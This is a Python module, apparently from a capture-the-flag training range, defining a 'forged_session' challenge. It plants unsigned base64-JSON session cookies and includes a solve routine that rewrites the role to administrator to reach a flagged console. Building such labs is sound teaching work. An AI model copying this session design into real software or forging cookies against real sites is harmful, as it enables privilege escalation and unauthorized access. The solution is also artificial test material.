"""Sessions that the holder can rewrite, because the cookie is neither signed nor random."""

from __future__ import annotations

import base64
import json

from openrange.packs.webapp.client import sign_in
from openrange.packs.webapp.places import Places
from openrange.packs.webapp.sessions import COOKIE, Session
from openrange.packs.webapp.world import ADMINISTRATOR, World
from openrange.worlds.flag import find_flag
from openrange.worlds.visitor import Visitor

NAME = "forged_session"
SUMMARY = "the session cookie says in plain, unsigned JSON who its holder is and in which role"

MAX_COOKIE = 1_000


def hide(flag: str) -> Places:
    """Put the flag onto the administrators' console."""
    return Places(console=flag)


class UnsignedSessions:
    """Keeps the session in the cookie, as base64 of a JSON object, and believes it."""

    def open(self, session: Session) -> str:
        """Write the session into a cookie."""
        return _encode({"account": session.login, "role": session.role})

    def read(self, cookie: str) -> Session | None:
        """Believe the cookie. This is the planted weakness."""
        fields = _decode(cookie)
        login, role = fields.get("account"), fields.get("role")
        if isinstance(login, str) and isinstance(role, str):
            return Session(login, role)
        return None

    def close(self, cookie: str) -> None:
        """Do nothing: what the server does not keep, it cannot end."""


def solve(visitor: Visitor, world: World) -> str | None:
    """Sign in, write another role into the cookie, and open the console with it."""
    sign_in(visitor, world)
    given = next((each.value or "" for each in visitor.cookies if each.name == COOKIE), "")
    fields = {"account": world["agent"]["login"], **_decode(given), "role": ADMINISTRATOR}
    forged = {"Cookie": f"{COOKIE}={_encode(fields)}"}
    return find_flag(visitor.get(f"/{world['doors']['console']}", headers=forged).body)


def visit(visitor: Visitor, world: World) -> None:
    """Try the console with the session that signing in gave."""
    sign_in(visitor, world)
    visitor.get(f"/{world['doors']['console']}")


def _encode(fields: dict[str, object]) -> str:
    raw = json.dumps(fields, separators=(",", ":")).encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def _decode(cookie: str) -> dict[str, object]:
    """The object in a cookie, padded or not, in either alphabet; empty if there is none."""
    text = cookie[:MAX_COOKIE].rstrip("=").replace("+", "-").replace("/", "_")
    try:
        raw = base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))
        fields = json.loads(raw)
    except (ValueError, RecursionError):
        return {}
    return fields if isinstance(fields, dict) else {}
